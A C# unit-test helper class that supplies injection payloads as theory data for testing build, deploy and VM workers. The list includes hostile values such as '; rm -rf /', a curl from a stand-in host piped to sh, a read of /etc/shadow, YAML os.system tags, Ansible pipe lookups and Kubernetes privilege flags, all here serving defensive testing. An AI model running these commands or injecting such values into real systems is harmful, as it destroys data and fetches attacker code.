namespace MFlow.Workers.Tests.Injection;

/// <summary>Values that would change a command, a manifest or a playbook if anything interpreted them.</summary>
public static class Payloads
{
    public static readonly IReadOnlyList<string> All =
    [
        "; rm -rf /",
        "$(id)",
        "`id`",
        "ok && curl -s https://evil.example/x | sh",
        "a || reboot",
        "${HOME}/../../etc/shadow",
        "it's \"quoted\" and 'single' \\ back\\slashed",
        "line1\nline2",
        "a\r\nb",
        "\"\n  hostNetwork: true",
        "'\nhostPID: true\n'",
        "}, \"hostNetwork\": true, \"x\": {",
        "{{ lookup('pipe','id') }}",
        "{% for x in range(3) %}{{ x }}{% endfor %}",
        "&anchor value",
        "*alias",
        "!!python/object/apply:os.system ['id']",
        "!unsafe",
        "key: value",
        "- item",
        "--privileged",
        "[1, 2]",
        "{a: 1}",
        "| literal",
        "> folded",
        "# not a comment",
        "%YAML 1.1",
        "---",
        "null",
        "true",
        "0x1F",
        "1e3",
        "tab\there",
        "\u2028unicode line separator\u0085next line",
        "émoji 🚀 and <html>&amp;",
        "",
    ];

    /// <summary>The payloads as theory data.</summary>
    public static TheoryData<string> Data() => [.. All];

    /// <summary>The payloads as theory data, paired with each built-in kind.</summary>
    public static TheoryData<string, string> PerKind()
    {
        var data = new TheoryData<string, string>();
        foreach (var kind in new[] { "build", "deploy", "vm" })
        {
            foreach (var payload in All)
                data.Add(kind, payload);
        }

        return data;
    }
}
